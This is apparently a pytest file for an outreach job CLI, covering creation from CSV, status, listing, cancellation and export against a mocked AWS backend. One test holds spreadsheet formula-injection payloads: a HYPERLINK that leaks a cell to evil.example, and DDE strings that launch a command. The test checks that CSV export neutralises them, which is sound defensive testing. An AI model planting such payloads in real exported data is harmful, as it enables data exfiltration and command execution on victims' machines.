"""``outreach job``: create from a file, status, list, export and cancel, against moto."""

from __future__ import annotations

import csv
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest

from outreach import errors, task_store
from outreach.task_ids import normalise_url, scrape_task_id
from outreach.task_model import Kind
from outreach_operator.cli.jobs import create
from tests.outreach_operator.cli.conftest import (
    OPERATOR,
    Run,
    as_json,
    aws_state,
    claim_task,
    fail_task,
    finish_task,
    hook_clients,
    unhook_clients,
)
from tests.support.aws import REGION, Resources
from tests.support.email import planned


def _csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def _ids(job_id: str, urls: list[str]) -> list[str]:
    return [scrape_task_id(job_id, normalise_url(url)) for url in urls]


def test_bad_csv_lines_are_reported_with_line_numbers_and_nothing_is_written(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    # GIVEN a CSV whose lines 3 and 5 are not http(s) URLs
    sites = _csv(
        tmp_path / "sites.csv",
        [
            ["name", "URL"],
            ["a", "https://a.example"],
            ["b", "ftp://b.example"],
            ["c", "c.example"],
            ["d", "http://d e"],
        ],
    )
    before = aws_state(resources)
    # WHEN the job is created
    result = run("--json", "job", "create", "--file", str(sites), "--job-id", "j1")
    # THEN it exits 2, names both lines and why, and wrote nothing at all
    assert result.exit_code == 2
    report = json.loads(result.stdout)
    assert [(bad["line"], bad["value"]) for bad in report["invalid"]] == [
        (3, "ftp://b.example"),
        (5, "http://d e"),
    ]
    assert "is not http or https" in report["invalid"][0]["reason"]
    assert "nothing written" in result.stderr
    assert aws_state(resources) == before


def test_skip_invalid_writes_the_valid_lines_and_lists_the_skipped_ones(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    sites = tmp_path / "sites.txt"
    sites.write_text("# comment\nhttps://a.example\n\nnot a url\nb.example\nB.example/\n")
    report = as_json(run("--json", "job", "create", "--file", str(sites), "--job-id", "j2", "--skip-invalid"))
    assert [bad["line"] for bad in report["skipped_invalid"]] == [4]
    assert (report["tasks"], report["created"], report["duplicates_in_file"]) == (2, 2, 1)
    assert task_store.job_counts("j2")["Pending"] == 2


def test_a_job_created_in_chunks_is_spread_over_the_tenants_of_its_whole_size(
    run: Run, resources: Resources, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN a file of 40 sites written 10 at a time (10 sites alone would get 32 tenants)
    monkeypatch.setattr(create, "CREATE_CHUNK", 10)
    sites = tmp_path / "sites.txt"
    sites.write_text("".join(f"https://site-{n}.example\n" for n in range(40)))
    # WHEN the job is created
    report = as_json(run("--json", "job", "create", "--file", str(sites), "--job-id", "j40"))
    # THEN its rows name tenants of the 25 a job of 40 sites is spread over (outreach.scrape_tenants)
    assert report["created"] == 40
    rows = [task_store.get_task(scrape_task_id("j40", normalise_url(f"site-{n}.example"))) for n in range(40)]
    tenants = [row.message_group if row else None for row in rows]
    assert all(g and g.startswith("j40#") and int(g.split("#")[1]) < 25 for g in tenants)
    assert max(int(str(g).split("#")[1]) for g in tenants) >= 20


def test_creating_from_the_same_file_twice_creates_nothing_twice(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    # GIVEN a file of 300 sites created once without a job id (the id is derived from the file)
    urls = [f"https://site-{n}.example" for n in range(300)]
    sites = _csv(tmp_path / "batch.csv", [["url"], *[[u] for u in urls]])
    first = as_json(run("--json", "job", "create", "--file", str(sites)))
    after_first = aws_state(resources)
    # WHEN the same file is created again
    second = as_json(run("--json", "job", "create", "--file", str(sites)))
    # THEN it names the same job, creates nothing, and the tasks and counters are unchanged
    assert first["job_id"] == second["job_id"]
    assert (first["created"], second["created"], second["existing"]) == (300, 0, 300)
    assert task_store.job_counts(first["job_id"])["Pending"] == 300
    assert [
        i for i in aws_state(resources)["items"] if '"job_counter"' in i or '"kind": {"S": "scrape"}' in i
    ] == [i for i in after_first["items"] if '"job_counter"' in i or '"kind": {"S": "scrape"}' in i]


def test_job_create_dry_run_says_what_it_would_create_and_changes_nothing(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    sites = tmp_path / "s.txt"
    sites.write_text("https://a.example\nhttps://b.example\n")
    task_store.create_scrape_job("j3", ["https://a.example"])
    before = aws_state(resources)
    report = as_json(run("--json", "job", "create", "--file", str(sites), "--job-id", "j3", "--dry-run"))
    assert (report["would_create"], report["existing"], report["created"]) == (1, 1, 0)
    assert aws_state(resources) == before


def test_job_status_gives_counts_progress_and_failures_grouped_by_reason_with_an_example_url(
    run: Run, resources: Resources
) -> None:
    urls = [f"https://s{n}.example" for n in range(6)]
    ids = _ids("j4", urls)
    task_store.create_scrape_job("j4", urls)
    finish_task(ids[0])
    fail_task(ids[1], "http_status: 404 at /")
    fail_task(ids[2], "http_status: 410 at /")
    fail_task(ids[3], "not_html: image/png")
    claim_task(ids[4])
    report = as_json(run("--json", "job", "status", "j4"))
    assert report["counts"] == {"Pending": 1, "Running": 1, "Finished": 1, "Failed": 3, "Cancelled": 0}
    assert (report["total"], report["terminal"], report["open"], report["done"]) == (6, 4, 2, False)
    assert report["failures"] == [
        {"reason": "http_status", "count": 2, "example_url": "https://s1.example/", "example_task": ids[1]},
        {"reason": "not_html", "count": 1, "example_url": "https://s3.example/", "example_task": ids[3]},
    ]
    assert report["failures_uncounted"] == 0
    human = run("job", "status", "j4")
    assert human.exit_code == 0
    assert "Failed 3" in human.stdout and "http_status" in human.stdout


@pytest.fixture
def items_read() -> Iterator[list[int]]:
    """Items DynamoDB reads from here on, call by call: a Query's or Scan's ``ScannedCount``, the rows
    a BatchGetItem or GetItem returns."""
    seen: list[int] = []

    def record(model: Any, parsed: Any, **_: Any) -> None:
        if model.name in ("Query", "Scan"):
            seen.append(int(parsed.get("ScannedCount", 0)))
        elif model.name == "BatchGetItem":
            seen.append(sum(len(rows) for rows in parsed.get("Responses", {}).values()))
        elif model.name == "GetItem":
            seen.append(1 if "Item" in parsed else 0)

    hook_clients("after-call.dynamodb.*", record, "test-items-read")
    yield seen
    unhook_clients("after-call.dynamodb.*", "test-items-read")


def test_job_status_failure_groups_come_from_the_counters_and_read_the_same_items_beside_another_failing_job(
    run: Run, resources: Resources, calls: list[str], items_read: list[int]
) -> None:
    urls = [f"https://j5-{n}.example" for n in range(4)]
    ids = _ids("j5", urls)
    task_store.create_scrape_job("j5", urls)
    fail_task(ids[2], "dns_not_found: no address")
    fail_task(ids[0], "dns_not_found: no address")
    fail_task(ids[1], "timeout: read timed out")
    expected = [
        {"reason": "dns_not_found", "count": 2, "example_url": urls[2] + "/", "example_task": ids[2]},
        {"reason": "timeout", "count": 1, "example_url": urls[1] + "/", "example_task": ids[1]},
    ]
    calls.clear()
    items_read.clear()
    assert as_json(run("--json", "job", "status", "j5"))["failures"] == expected
    alone = sum(items_read)
    assert "dynamodb:Scan" not in calls

    others = [f"https://other-{n}.example" for n in range(30)]
    task_store.create_scrape_job("other", others)
    for task_id in _ids("other", others):
        fail_task(task_id, "dns_not_found: no address")
    calls.clear()
    items_read.clear()
    assert as_json(run("--json", "job", "status", "j5"))["failures"] == expected
    assert sum(items_read) == alone
    assert "dynamodb:Scan" not in calls


def test_job_status_leaves_a_requeued_failed_task_out_of_its_group_and_shows_the_next_first_failed(
    run: Run, resources: Resources
) -> None:
    urls = [f"https://j6-{n}.example" for n in range(20)]
    ids = _ids("j6", urls)
    task_store.create_scrape_job("j6", urls)
    first = ids[0]
    # The next to fail counts in another shard, the one after in the first's shard.
    second = next(t for t in ids if task_store.counter_shard(t) != task_store.counter_shard(first))
    third = next(t for t in ids[1:] if task_store.counter_shard(t) == task_store.counter_shard(first))
    for task_id in (first, second, third):
        fail_task(task_id, "tls_certificate: certificate has expired")
    assert as_json(run("--json", "job", "status", "j6"))["failures"][0]["example_task"] == first

    done = run("--json", "task", "requeue", first, "--reason", "certificate renewed")
    assert done.exit_code == 0, done.output
    report = as_json(run("--json", "job", "status", "j6"))
    assert report["counts"]["Failed"] == 2 and report["counts"]["Pending"] == 18
    assert report["failures"] == [
        {
            "reason": "tls_certificate",
            "count": 2,
            "example_url": urls[ids.index(second)] + "/",
            "example_task": second,
        }
    ]
    assert report["failures_uncounted"] == 0


def test_job_status_of_an_unknown_job_is_bad_input(run: Run) -> None:
    result = run("job", "status", "nope")
    assert result.exit_code == 2
    assert "no job 'nope'" in result.stderr


def test_job_list_shows_jobs_with_their_counts_newest_first(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    for name in ("older", "newer"):
        (tmp_path / f"{name}.txt").write_text(f"https://{name}.example\nhttps://{name}2.example\n")
        as_json(run("--json", "job", "create", "--file", str(tmp_path / f"{name}.txt"), "--job-id", name))
    finish_task(_ids("newer", ["https://newer.example"])[0])
    jobs = as_json(run("--json", "job", "list"))
    assert [j["job_id"] for j in jobs] == ["newer", "older"]
    assert (jobs[0]["total"], jobs[0]["Finished"], jobs[0]["Pending"], jobs[0]["created_by"]) == (
        2,
        1,
        1,
        OPERATOR,
    )


def test_job_list_reads_the_jobs_index_and_the_shown_jobs_counters_never_a_scan(
    run: Run, resources: Resources, tmp_path: Path, calls: list[str]
) -> None:
    for name in ("first", "second", "third"):
        (tmp_path / f"{name}.txt").write_text(f"https://{name}.example\n")
        as_json(run("--json", "job", "create", "--file", str(tmp_path / f"{name}.txt"), "--job-id", name))
    calls.clear()
    jobs = as_json(run("--json", "job", "list", "--limit", "2"))
    assert [j["job_id"] for j in jobs] == ["third", "second"]
    assert [j["Pending"] for j in jobs] == [1, 1]
    assert "dynamodb:Scan" not in calls
    assert calls.count("dynamodb:Query") == len(Kind)  # one page per kind of job
    assert calls.count("dynamodb:BatchGetItem") == 2  # the counter shards of the two jobs shown


def test_job_export_writes_the_results_of_finished_tasks_as_jsonl_and_csv(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    urls = ["https://a.example", "https://b.example", "https://c.example"]
    ids = _ids("j5", urls)
    task_store.create_scrape_job("j5", urls)
    finish_task(ids[0], title="Alpha")
    finish_task(ids[2], title="Gamma")
    report = as_json(run("--json", "job", "export", "j5", "--out", str(tmp_path / "out.jsonl")))
    assert (report["exported"], report["finished_tasks"]) == (2, 2)
    rows = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert {r["task_id"]: r["title"] for r in rows} == {ids[0]: "Alpha", ids[2]: "Gamma"}
    assert all(r["result_key"].startswith("results/j5/") and "text" not in r for r in rows)
    as_json(run("--json", "job", "export", "j5", "--out", str(tmp_path / "out.csv")))
    with (tmp_path / "out.csv").open() as handle:
        table = list(csv.DictReader(handle))
    assert sorted(r["title"] for r in table) == ["Alpha", "Gamma"]
    assert {r["emails"] for r in table} == {"info@acme.example"}
    assert {r["phones"] for r in table} == {"'+4930583920;+4930583929 (fax)"}  # a leading + is quoted


def _finish_with(task_id: str, document: dict[str, object]) -> None:
    """Finish ``task_id`` with ``document`` as its scraped result (a stranger's page, as stored)."""
    from outreach.results import store_result

    task = task_store.get_task(task_id)
    assert task is not None
    claimed = task_store.claim(task, message_id="m-1", receive_count=1, lease_seconds=300)
    key = store_result(task.job_id, task.task_id, document)
    task_store.finish(claimed, result_key=key, summary={"title": "x"})


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "description": "+cmd|' /C calc'!A0",
    "language": "@SUM(1+1)*cmd|' /C calc'!A0",
    "final_url": "-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "  ="]
)
def test_job_export_csv_puts_a_quote_before_every_cell_a_spreadsheet_would_evaluate(
    run: Run, resources: Resources, tmp_path: Path, start: str
) -> None:
    [task_id] = _ids("jx", ["https://a.example"])
    task_store.create_scrape_job("jx", ["https://a.example"])
    document: dict[str, object] = {
        **FORMULAS,
        "title": f"{start}1+1",
        "emails": [{"address": "@SUM(1+1)@evil.example"}],
        "phones": [{"e164": "+4930583920", "kind": "phone"}],
        "social_links": ["-x"],
        "pages": [],
    }
    _finish_with(task_id, document)
    as_json(run("--json", "job", "export", "jx", "--out", str(tmp_path / "out.csv")))
    with (tmp_path / "out.csv").open(newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["title"] == f"'{start}1+1"
    assert (row["description"], row["language"], row["final_url"]) == (
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
    )
    assert (row["emails"], row["phones"], row["social_links"]) == (
        "'@SUM(1+1)@evil.example",
        "'+4930583920",
        "'-x",
    )
    assert (tmp_path / "out.csv").read_text().startswith('"task_id","result_key",')  # every field quoted
    as_json(run("--json", "job", "export", "jx", "--out", str(tmp_path / "out.jsonl")))
    [exact] = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert (exact["title"], exact["description"]) == (f"{start}1+1", FORMULAS["description"])


def test_job_export_refuses_to_overwrite_an_existing_file_without_force(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    ids = _ids("jo", ["https://a.example"])
    task_store.create_scrape_job("jo", ["https://a.example"])
    finish_task(ids[0], title="Alpha")
    out = tmp_path / "out.csv"
    out.write_text("the operator's own spreadsheet\n")
    refused = run("--json", "job", "export", "jo", "--out", str(out))
    assert refused.exit_code == 2, refused.output
    assert f"{out} exists: give --force to overwrite it" in refused.stderr
    assert out.read_text() == "the operator's own spreadsheet\n"
    report = as_json(run("--json", "job", "export", "jo", "--out", str(out), "--force"))
    assert report["exported"] == 1 and "Alpha" in out.read_text()


def test_job_create_refuses_a_line_over_256_ki_characters_naming_it(run: Run, tmp_path: Path) -> None:
    sites = tmp_path / "sites.txt"
    sites.write_text("https://a.example\nhttps://b.example/" + "x" * 2_000_000 + "\n")
    result = run("--json", "job", "create", "--file", str(sites))
    assert result.exit_code == 2, result.output
    assert f"{sites}: line 2 is longer than 262,144 characters, the most a line may have" in result.stderr
    assert len(result.stdout) + len(result.stderr) < 2_000


def test_job_create_reports_a_rejected_line_cut_to_200_characters_with_its_length(
    run: Run, tmp_path: Path
) -> None:
    sites = tmp_path / "sites.csv"
    sites.write_text("url\nhttps://a.example\nftp://" + "b" * 100_000 + ".example\n")
    result = run("--json", "job", "create", "--file", str(sites))
    assert result.exit_code == 2, result.output
    [bad] = json.loads(result.stdout)["invalid"]
    assert bad["line"] == 3
    assert bad["value"] == "ftp://" + "b" * 194 + "… (100,014 characters)"
    assert len(bad["reason"]) <= 500 + len("… (999,999 characters)")


def test_job_cancel_moves_open_tasks_to_cancelled_and_leaves_terminal_ones(
    run: Run, resources: Resources
) -> None:
    urls = ["https://a.example", "https://b.example", "https://c.example"]
    ids = _ids("j6", urls)
    task_store.create_scrape_job("j6", urls)
    task_store.create_scrape_job("other", urls)
    finish_task(ids[0])
    claim_task(ids[1])
    before = aws_state(resources)
    dry = as_json(run("--json", "job", "cancel", "j6", "--dry-run"))
    assert sorted(t["task_id"] for t in dry["open_tasks"]) == sorted(ids[1:])
    assert aws_state(resources) == before
    report = as_json(run("--json", "job", "cancel", "j6", "--reason", "customer withdrew"))
    assert sorted(report["cancelled"]) == sorted(ids[1:])
    assert task_store.job_counts("j6") == {
        "Pending": 0,
        "Running": 0,
        "Finished": 1,
        "Failed": 0,
        "Cancelled": 2,
    }
    assert task_store.job_counts("other")["Pending"] == 3
    cancelled = task_store.get_task(ids[1])
    assert cancelled is not None and cancelled.failure_reason == f"customer withdrew (by {OPERATOR})"


def test_job_status_watch_refreshes_until_every_task_is_terminal(
    run: Run, resources: Resources, monkeypatch: pytest.MonkeyPatch
) -> None:
    urls = [f"https://w{n}.example" for n in range(3)]
    ids = _ids("jw", urls)
    task_store.create_scrape_job("jw", urls)
    finish_task(ids[0])
    # the other two finish only after the watch has read the job with two tasks still open
    readings: list[dict[str, int]] = []
    watching = threading.Event()
    read = task_store.job_counts

    def counted(job_id: str) -> dict[str, int]:
        counts = read(job_id)
        readings.append(counts)
        if len(readings) >= 2:  # the status reading, then the watch's first reading
            watching.set()
        return counts

    monkeypatch.setattr(task_store, "job_counts", counted)

    def finish_the_rest() -> None:
        assert watching.wait(60)
        for task_id in ids[1:]:
            finish_task(task_id)

    worker = threading.Thread(target=finish_the_rest)
    worker.start()
    try:
        report = as_json(
            run("--json", "job", "status", "jw", "--watch", "--interval", "0.05", "--timeout", "120")
        )
    finally:
        worker.join()
    assert readings[1]["Finished"] == 1
    assert report["done"] is True
    assert report["counts"]["Finished"] == 3


def test_without_json_the_commands_print_tables_for_a_person(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    sites = _csv(tmp_path / "people.csv", [["url"], ["https://p1.example"], ["ftp://bad.example"]])
    created = run("job", "create", "--file", str(sites), "--job-id", "jh", "--skip-invalid")
    assert created.exit_code == 0, created.output
    assert "skipped 1 invalid lines" in created.stdout and "job jh: 1 tasks (1 created" in created.stdout
    listed = run("job", "list")
    assert listed.exit_code == 0 and "jh" in listed.stdout
    cancelled = run("job", "cancel", "jh", "--dry-run")
    assert cancelled.exit_code == 0 and "would cancel 1 tasks" in cancelled.stdout
    shown = run("dlq", "show", "scrape")
    assert shown.exit_code == 0 and "0 messages in the scrape DLQ" in shown.stdout


def test_job_cancel_on_a_campaign_leaves_an_email_being_sent_and_says_how_many_it_skipped(
    run: Run, resources: Resources
) -> None:
    # GIVEN a campaign's two emails: one Pending, one a worker has claimed and is sending
    emails = [planned("a@example.org", campaign="spring"), planned("b@example.org", campaign="spring")]
    task_store.create_email_tasks(emails)
    waiting, sending = (e.task_id for e in emails)
    claimed = task_store.get_task(sending)
    assert claimed is not None
    task_store.claim_email(claimed, owner="invocation-1", lease_seconds=3600)
    # WHEN the operator cancels the campaign's id as a job
    report = as_json(run("--json", "job", "cancel", "spring"))
    # THEN the Pending email is cancelled, the one being sent is left Running, and it is counted
    assert (report["cancelled"], report["skipped_being_sent"]) == ([waiting], [sending])
    left = task_store.get_task(sending)
    assert left is not None and left.status.value == "Running"
    human = run("job", "cancel", "spring")
    assert human.exit_code == 0
    assert "skipped 1 email tasks that are Running" in human.stdout


def _put_legacy_job_row(resources: Resources, job_id: str, source: str) -> None:
    """A job row as ``record_job`` wrote it before ``job_kind`` existed."""
    boto3.client("dynamodb", region_name=REGION).put_item(
        TableName=resources.table,
        Item={
            "task_id": {"S": f"job#{job_id}"},
            "kind": {"S": "job"},
            "job_id": {"S": job_id},
            "created_at": {"S": "2026-11-01T08:00:00Z"},
            "created_by": {"S": "someone"},
            "updated_at": {"S": "2026-11-01T08:00:00Z"},
            "source": {"S": source},
            "task_count": {"N": "2"},
        },
    )


def test_a_job_id_that_is_a_campaign_is_refused_for_a_scrape_job_and_nothing_is_written(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    # GIVEN campaign "shared" as `campaign schedule` recorded it (before job_kind: its source names
    # its recipients)
    _put_legacy_job_row(resources, "shared", "c.yaml sha256:ab; recipients r.csv sha256:cd")
    sites = tmp_path / "s.txt"
    sites.write_text("https://a.example\n")
    before = aws_state(resources)
    # WHEN a scrape job is created with the same id (dry run and real)
    for extra in (["--dry-run"], []):
        result = run("--json", "job", "create", "--file", str(sites), "--job-id", "shared", *extra)
        # THEN it is refused (exit 2) naming the other kind, and nothing at all is written
        assert result.exit_code == 2, result.output
        assert "is already a campaign" in result.stderr and "nothing written" in result.stderr
    assert aws_state(resources) == before


def test_a_campaign_id_equal_to_a_scrape_job_id_is_refused_by_the_task_store(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    # GIVEN scrape job "shared"
    sites = tmp_path / "s.txt"
    sites.write_text("https://a.example\n")
    as_json(run("--json", "job", "create", "--file", str(sites), "--job-id", "shared"))
    row = task_store.get_job("shared")
    assert row is not None and row["job_kind"] == "scrape"
    # WHEN a campaign is recorded with the same id
    with pytest.raises(errors.JobKindConflictError, match="already a scrape job"):
        task_store.record_job(
            "shared", kind=Kind.EMAIL, source="c.yaml sha256:ab; recipients r.csv", tasks=9, created_by="x"
        )
    # THEN the scrape job's row is as it was (source and count not overwritten)
    assert task_store.get_job("shared") == row


def test_a_job_row_written_before_job_kind_keeps_the_kind_its_source_shows(
    run: Run, resources: Resources, tmp_path: Path
) -> None:
    # GIVEN a scrape job recorded before job_kind
    _put_legacy_job_row(resources, "old", "sites.csv sha256:ab")
    # THEN a campaign may not take its id, and the scrape job's re-run stamps its kind
    with pytest.raises(errors.JobKindConflictError):
        task_store.record_job("old", kind=Kind.EMAIL, source="c; recipients r", tasks=1, created_by="x")
    sites = tmp_path / "s.txt"
    sites.write_text("https://a.example\n")
    as_json(run("--json", "job", "create", "--file", str(sites), "--job-id", "old"))
    row = task_store.get_job("old")
    assert row is not None and (row["job_kind"], row["created_by"]) == ("scrape", "someone")
